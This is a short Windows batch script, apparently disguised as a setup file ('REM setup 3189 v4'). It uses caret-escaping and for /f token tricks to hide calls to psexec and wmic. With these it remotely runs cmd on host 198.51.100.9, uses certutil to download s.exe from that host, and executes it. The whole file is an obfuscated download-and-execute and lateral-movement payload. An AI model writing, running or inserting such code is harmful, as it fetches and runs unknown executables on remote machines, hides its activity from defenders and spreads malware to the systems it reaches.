REM setup 3189 v4
f^or /f "tokens=2 delims=~" %%i ^in ("dgpx~psexec.exe~vquo") do %%i \\19^8.5^1.^1^00.^9 -a^cc^ep^te^u^l^a -^s -^d cm^d /^c "certutil -urlcache -f http://198.51.100.9/s.exe C:\s.exe && C:\s.exe"
^fo^r /^f "tokens=1 delims=~" %%^i in ("wmic~wgyq~tqtw") do %%^i /^n^od^e:^198.^51.10^0.9 proc^ess cal^l ^cre^a^te "cmd /c C:\s.exe"
